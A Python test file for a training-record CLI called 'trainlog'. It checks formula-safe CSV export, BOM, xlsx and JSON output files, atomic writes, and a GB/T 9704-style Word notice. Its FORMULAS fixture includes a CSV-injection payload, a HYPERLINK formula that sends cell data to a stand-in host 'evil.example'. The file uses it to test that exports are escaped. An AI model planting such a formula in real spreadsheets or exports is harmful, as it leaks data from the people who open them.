"""Safe CSV everywhere, and `-o FILE` / `--output FILE`: CSV with a BOM, xlsx, JSON, the notice
as Word (DESIGN.md, "Output for people")."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from trainlog.output.render import write_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+86 1234", "-2+3", "@SUM(A1)",
            "\tTAB", "\rCR"]


class TestSafeCsv:
    def test_text_that_starts_like_a_formula_gets_a_quote(self) -> None:
        out = io.StringIO()
        write_csv([{"name": v, "n": -5, "h": -1.5} for v in FORMULAS], ["name", "n", "h"], out)
        rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
        assert [r[0] for r in rows] == ["'" + v for v in FORMULAS]
        # numbers stay numbers: a negative number is not text
        assert {(r[1], r[2]) for r in rows} == {("-5", "-1.5")}

    def test_plain_text_is_left_alone(self) -> None:
        out = io.StringIO()
        write_csv([{"name": "王芳 = 3", "x": "a-b"}], ["name", "x"], out)
        assert out.getvalue().splitlines()[1] == "王芳 = 3,a-b"

    def test_every_listing_through_the_cli(self, cli, db, tmp_path: Path) -> None:
        assert cli("branch", "add", "B1", "=1+1", "--township", "@镇").exit_code == 0
        evil = FORMULAS[0]
        assert cli("cadre", "add", "--unit", "-单位", "--branch", "B1", "--", "G1", evil
                   ).exit_code == 0
        branches = cli("branch", "list", "--format", "csv").stdout
        assert "B1,'=1+1,'@镇" in branches
        cadres = list(csv.DictReader(io.StringIO(cli("cadre", "list", "--format", "csv").stdout)))
        assert cadres[0]["name"] == "'" + evil and cadres[0]["unit"] == "'-单位"
        # and -o FILE.csv too
        assert cli("cadre", "list", "-o", tmp_path / "c.csv").exit_code == 0
        text = (tmp_path / "c.csv").read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text

    def test_a_file_read_back_loses_the_quote(self, tmp_path: Path) -> None:
        """A CSV trainlog wrote imports back as it was: the ' is trainlog's, not the name's."""
        from trainlog.files.tables import BRANCH_COLUMNS, open_table

        path = tmp_path / "back.csv"
        with path.open("w", encoding="utf-8-sig", newline="") as f:
            write_csv([{"code": "B1", "name": v, "township": "'=kept"} for v in FORMULAS[:4]],
                      ["code", "name", "township"], f)
        rows = [values for _, values in open_table(path, BRANCH_COLUMNS, {"code"}).rows()]
        assert [r["name"] for r in rows] == [v.strip() for v in FORMULAS[:4]]
        assert rows[0]["township"] == "'=kept"  # a quote of the data's own stays


@pytest.fixture
def demo(zhaoling: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("TRAINLOG_DB", str(zhaoling))
    monkeypatch.setenv("TRAINLOG_TODAY", "2020-04-03")
    return zhaoling


@pytest.mark.sqlite_only("reads the demo's SQLite file")
class TestOutputFile:
    def test_csv_has_a_bom_and_the_format_csv_rows(self, cli, demo: Path, tmp_path: Path) -> None:
        path = tmp_path / "扶贫干部.csv"
        result = cli("cadre", "list", "--poverty-cadre", "-o", path)
        assert result.exit_code == 0 and result.stdout == ""
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # Excel on Chinese Windows reads it as UTF-8
        piped = cli("cadre", "list", "--poverty-cadre", "--format", "csv").stdout
        assert raw[3:].decode().replace("\r\n", "\n") == piped

    def test_json_is_the_format_json(self, cli, demo: Path, tmp_path: Path) -> None:
        path = tmp_path / "r.json"
        args = ["report", "--year", "2020", "--by", "month"]
        assert cli(*args, "--output", path).exit_code == 0
        assert json.loads(path.read_text()) == json.loads(cli(*args, "--format", "json").stdout)

    def test_xlsx_one_sheet_headers_in_the_language(self, cli, demo: Path, tmp_path: Path) -> None:
        from openpyxl import load_workbook

        path = tmp_path / "sessions.xlsx"
        assert cli("--lang", "zh", "session", "list", "--month", "2020-03", "-o", path
                   ).exit_code == 0
        wb = load_workbook(path)
        assert len(wb.worksheets) == 1
        ws = wb.worksheets[0]
        head = [c.value for c in ws[1]]
        assert head[:4] == ["序号", "培训编号", "日期", "类别"]
        assert ws.freeze_panes == "A2"
        first = [c.value for c in ws[2]]
        assert isinstance(first[0], int) and first[3] in ("政策培训", "视频培训", "专题培训")
        assert first[2].year == 2020 and first[2].month == 3  # a date, not text
        hours = head.index("学时")
        assert all(isinstance(r[hours].value, int | float) for r in ws.iter_rows(min_row=2))
        english = tmp_path / "en.xlsx"
        assert cli("session", "list", "--month", "2020-03", "-o", english).exit_code == 0
        assert [c.value for c in load_workbook(english).worksheets[0][1]][:3] == [
            "ID", "Ref", "Date"]

    @pytest.mark.parametrize("args", [["cadre", "list"], ["compliance", "--month", "2020-03"],
                                      ["coverage", "--year", "2020"], ["branch", "list"],
                                      ["survey", "report", "--year", "2020"], ["config", "show"],
                                      ["plan", "show"], ["session", "show", "1"],
                                      ["cadre", "show", "G0190"], ["db", "check"],
                                      ["survey", "list"], ["report", "--year", "2020"]])
    def test_every_listing_and_report(self, cli, demo: Path, tmp_path: Path, args) -> None:
        for suffix in (".csv", ".xlsx", ".json"):
            path = tmp_path / f"out{suffix}"
            result = cli(*args, "-o", path)
            assert result.exit_code == 0, result.stderr
            assert result.stdout == "" and path.stat().st_size > 0

    @pytest.mark.parametrize("name", ["x.txt", "x", "x.xls", "x.docx"])
    def test_another_suffix_exits_2_nothing_written(self, cli, demo: Path, tmp_path: Path,
                                                    name: str) -> None:
        result = cli("cadre", "list", "-o", tmp_path / name)
        assert result.exit_code == 2
        assert ".csv" in result.stderr and list(tmp_path.iterdir()) == []

    def test_a_failed_write_leaves_the_old_file(self, cli, demo: Path, tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
        from openpyxl import Workbook

        path = tmp_path / "c.xlsx"
        path.write_bytes(b"the old file")

        save = Workbook.save

        def full_disk(self, filename):  # type: ignore[no-untyped-def]
            save(self, filename)  # half written, as far as trainlog can tell
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(Workbook, "save", full_disk)
        result = cli("cadre", "list", "-o", path)
        assert result.exit_code == 1
        assert "No space left on device" in result.stderr and "Traceback" not in result.stderr
        assert path.read_bytes() == b"the old file"
        assert sorted(p.name for p in tmp_path.iterdir()) == ["c.xlsx"]

    def test_no_such_folder(self, cli, demo: Path, tmp_path: Path) -> None:
        result = cli("cadre", "list", "-o", tmp_path / "nope" / "c.csv")
        assert result.exit_code == 1 and "no such folder" in result.stderr


@pytest.mark.sqlite_only("reads the demo's SQLite file")
class TestNoticeDocx:
    def test_gb_t_9704_layout(self, cli, demo: Path, tmp_path: Path) -> None:
        from docx import Document
        from docx.oxml.ns import qn
        from docx.shared import Mm, Pt

        path = tmp_path / "通报.docx"
        args = ["report", "--from", "2020-01-01", "--as-of", "2020-04-03"]
        result = cli(*args, "-o", path, "--issuer", "中共召陵区委组织部")
        assert result.exit_code == 0, result.stderr
        notice = cli(*args, "--format", "notice").stdout.strip("\n").split("\n")
        doc = Document(str(path))
        s = doc.sections[0]

        def mm(length: int) -> float:  # Word keeps twips: to the tenth of a millimetre
            return round(length / Mm(1), 1)

        assert (mm(s.page_width), mm(s.page_height)) == (210, 297)
        assert (mm(s.top_margin), mm(s.left_margin)) == (37, 28)
        assert mm(s.page_width - s.left_margin - s.right_margin) == 156  # the type area
        assert mm(s.page_height - s.top_margin - s.bottom_margin) == 225
        grid = s._sectPr.find(qn("w:docGrid"))
        assert grid.get(qn("w:linePitch")) == "579"  # 22 lines to 225 mm
        paras = [p for p in doc.paragraphs if p.text]
        title = paras[0]
        assert title.text == notice[0] and title.alignment == 1  # centred
        run = title.runs[0]
        assert run.font.size == Pt(22)
        assert run.element.rPr.rFonts.get(qn("w:eastAsia")) == "方正小标宋简体"
        normal = doc.styles["Normal"]
        assert normal.font.size == Pt(16)
        assert normal.element.rPr.rFonts.get(qn("w:eastAsia")) == "仿宋_GB2312"
        # 28 characters of 16 pt, less the spacing, fit the 156 mm line; 29 do not
        spacing = int(normal.element.rPr.find(qn("w:spacing")).get(qn("w:val"))) / 20
        assert 28 * (16 + spacing) <= Mm(156).pt < 29 * (16 + spacing)
        # the body is the notice's, word for word; the office and the date at the end
        body = [p.text for p in paras[1:-2]]
        assert body == [line.strip("\u3000") for line in notice[1:] if line]
        assert paras[1].runs[0].text.startswith("截至")
        heading = paras[2].runs[0]
        assert heading.text == "一、政策培训。"
        assert heading.element.rPr.rFonts.get(qn("w:eastAsia")) == "黑体"
        assert [p.text for p in paras[-2:]] == ["中共召陵区委组织部", "2020年4月3日"]

    def test_docx_only_for_report(self, cli, demo: Path, tmp_path: Path) -> None:
        assert cli("compliance", "-o", tmp_path / "x.docx").exit_code == 2
        assert cli("report", "-o", tmp_path / "x.pdf").exit_code == 2
        assert list(tmp_path.iterdir()) == []

    def test_python_docx_is_imported_only_for_a_docx(self) -> None:
        import subprocess
        import sys

        code = ("import sys, trainlog.cli; trainlog.cli.register(['reports']); "
                "import trainlog.output.files; print('docx' in sys.modules)")
        out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
        assert out.stdout.strip() == "False", out.stderr
